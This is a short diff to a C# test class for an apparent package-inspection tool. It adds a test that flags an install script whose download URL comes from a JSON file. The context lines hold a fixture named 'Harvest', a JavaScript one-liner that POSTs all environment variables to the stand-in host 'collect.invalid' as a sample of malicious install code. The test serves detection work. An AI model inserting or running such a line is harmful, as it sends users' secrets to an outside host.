@@ -68,6 +68,15 @@ public sealed class ReleasedBeforeTests
     }
 
     [Fact]
+    public void Where_nobody_knows_where_it_goes_it_is_held_every_time()
+    {
+        string install = Fetches.Replace("\"https://dist.sample.invalid/sample-linux\"", "require(\"./where.json\").url", StringComparison.Ordinal);
+        InspectionReport first = Of("1.0.0", install);
+        first.Verdict.ShouldBe(Verdict.Suspicious);
+        Of("1.0.1", install, earlier: first).Verdict.ShouldBe(Verdict.Suspicious);
+    }
+
+    [Fact]
     public void What_is_malicious_stays_so()
     {
         const string Harvest = "require('https').request({ hostname: 'collect.invalid', method: 'POST' }).end(JSON.stringify(process.env));";
